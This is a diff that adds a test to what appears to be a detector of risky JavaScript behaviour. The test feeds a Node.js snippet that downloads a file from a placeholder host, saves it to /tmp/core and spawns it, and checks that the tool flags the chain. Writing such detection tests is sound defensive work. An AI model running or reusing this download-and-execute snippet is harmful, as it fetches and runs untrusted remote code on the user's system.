@@ -148,3 +148,17 @@ def test_region_of_the_machine_is_no_credential() -> None:
         """
     )
     assert not has(facts, "credentials")
+
+
+def test_what_a_finished_download_starts_is_one_chain() -> None:
+    facts = says(
+        """
+        const fs = require("fs"), https = require("https"), { spawn } = require("child_process");
+        https.get("https://x.example.invalid/core", (answer) => {
+          const file = fs.createWriteStream("/tmp/core");
+          answer.pipe(file);
+          file.on("finish", () => file.close(() => spawn("/tmp/core")));
+        });
+        """
+    )
+    assert has(facts, "process.start '/tmp/core' [] import")
